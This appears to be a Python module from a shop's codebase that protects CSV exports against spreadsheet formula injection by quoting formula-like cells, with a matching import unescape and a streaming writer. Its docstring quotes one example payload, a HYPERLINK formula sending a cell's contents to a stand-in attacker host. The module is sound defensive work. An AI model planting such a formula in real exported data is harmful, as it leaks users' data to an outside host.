"""CSV for spreadsheets that never runs a formula a shopper typed (CSV injection).

A name like `=HYPERLINK("http://evil.example?"&A1, "Click")` in an exported file runs when a
spreadsheet opens it. As OWASP recommends, a cell that starts with `=`, `+`, `-`, `@`, a tab or a
carriage return gets a leading single quote (the spreadsheet then shows it as text), and every
cell is quoted, with embedded quotes doubled, so a separator inside a value cannot start a new
cell. Every export goes through `safe_cell` (via `SafeCsv`), numbers too: a negative amount or
quantity is written `'-5`, as OWASP recommends.
https://owasp.org/www-community/attacks/CSV_Injection

Our own imports (the catalog's CSV, count sheets) read such files back exactly: `unescape_cell`
removes the one quote `safe_cell` added (a cell whose first character after its leading quotes is
one of those). A value that itself starts with quotes and then such a character gets one more
quote on export, so the round trip is exact for every text.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
BOM = "\ufeff"  # spreadsheet programs then read the file as UTF-8


def _runs(text: str) -> bool:
    """Starts like a formula, after any quotes: such quotes are doubled up one more on export so
    that removing one on import is exact."""
    return text.lstrip("'").startswith(FORMULA_STARTS)


def safe_cell(value: Any) -> str:
    """The value as cell text a spreadsheet shows and never evaluates."""
    text = "" if value is None else str(value)
    return "'" + text if _runs(text) else text


def unescape_cell(text: str) -> str:
    """A cell read back from one of our exports, as it was before `safe_cell`."""
    return text[1:] if text.startswith("'") and _runs(text) else text


class SafeCsv:
    """Rows in, CSV text out in chunks (for a streamed response). `quote_all` quotes every cell
    (the orders and customers exports); otherwise only cells that need it, as the catalog's
    documented format has it."""

    def __init__(self, *, quote_all: bool = True) -> None:
        self._buffer = io.StringIO()
        self._writer = csv.writer(
            self._buffer, quoting=csv.QUOTE_ALL if quote_all else csv.QUOTE_MINIMAL
        )

    def row(self, values: Iterable[Any]) -> None:
        self._writer.writerow([safe_cell(v) for v in values])

    def take(self) -> str:
        """What was written since the last take."""
        text = self._buffer.getvalue()
        self._buffer.seek(0)
        self._buffer.truncate()
        return text
